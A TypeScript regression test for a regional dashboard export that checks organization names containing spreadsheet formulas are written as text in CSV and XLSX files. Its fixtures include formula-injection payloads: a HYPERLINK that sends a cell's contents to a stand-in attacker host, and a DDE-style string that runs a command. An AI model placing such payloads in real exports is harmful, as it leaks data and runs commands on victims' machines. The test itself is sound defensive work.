// Issue 14, finding 8: an organization renamed "=HYPERLINK(…)" or "@SUM(…)" by the administrator
// was exported by the regional dashboard as a live formula. Renamed through the administrator's
// own use-case, then exported as the region's export route does.
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { updateOrganization } from "../../lib/admin/organizations";
import { exportView } from "../../lib/dashboard/export";
import { parseDashboardFilter } from "../../lib/dashboard/filters";
import { localDateTime } from "../../lib/domain/working-calendar";
import { registerPackage } from "../../lib/workflow/register-package";
import { makeIntake } from "../../prisma/factories";
import { contextAt, createStaff } from "./fixtures";
import { useTestDatabase } from "./test-database";

const testDb = useTestDatabase();

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Details")';
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const PLUS = "+7 701 000 00 00";

describe("the regional export of an organization renamed to a formula", () => {
  it("writes the name as text: an apostrophe before it in CSV, a text cell in XLSX", async () => {
    const db = testDb.db;
    const admin = await createStaff(db, "SYSTEM_ADMIN", "MANG-EDU");
    const region = await createStaff(db, "REGION_ADMIN", "MANG-EDU");
    const clerk = await createStaff(db, "CLERK", "AKTAU-SCH-12");
    await registerPackage(contextAt(db), clerk, makeIntake());
    const school = await db.organization.findUniqueOrThrow({
      where: { code: "AKTAU-SCH-12" },
      select: { id: true, code: true, kind: true, localityCode: true, parentId: true },
    });
    await updateOrganization(db, admin, school.id, {
      code: school.code,
      kind: school.kind,
      nameKk: PLUS,
      nameRu: SUM,
      nameEn: HYPERLINK,
      localityCode: school.localityCode,
      parentId: school.parentId ?? undefined,
    });

    const filter = parseDashboardFilter({ from: "2026-11-23", to: "2026-11-29", level: "organization" });
    const now = localDateTime("2026-11-26", "15:00");
    const csvLines = async (locale: "kk" | "ru" | "en") => {
      const file = await exportView(db, region, filter, { format: "csv", view: "league" }, locale, now);
      return (file.body as string).replace(/^\uFEFF/, "").split("\r\n");
    };
    expect((await csvLines("en")).find((line) => line.includes("HYPERLINK"))).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&B2,""Details""\)",1,/);
    // Kazakh and Russian files are split by ";" (Excel's list separator in those locales)
    expect((await csvLines("ru")).find((line) => line.includes("SUM"))).toMatch(/^'@SUM\(1\+1\)\*cmd\|' \/C calc'!A0;1;/);
    expect((await csvLines("kk")).find((line) => line.includes("701"))).toMatch(/^'\+7 701 000 00 00;1;/);
    // no line of any export starts a formula
    for (const locale of ["kk", "ru", "en"] as const) for (const line of await csvLines(locale)) expect(line).not.toMatch(/^"?[=+\-@\t\r]/);

    const xlsx = await exportView(db, region, filter, { format: "xlsx", view: "league" }, "en", now);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
    const names: ExcelJS.Cell[] = [];
    workbook.worksheets[0]!.getColumn(1).eachCell((cell) => void names.push(cell));
    const renamed = names.find((cell) => cell.value === HYPERLINK);
    expect(renamed, "the renamed school's row").toBeDefined();
    expect(renamed!.type).toBe(ExcelJS.ValueType.String);
    expect(renamed!.formula).toBeUndefined();
    expect(names.every((cell) => cell.type !== ExcelJS.ValueType.Formula)).toBe(true);
  });
});
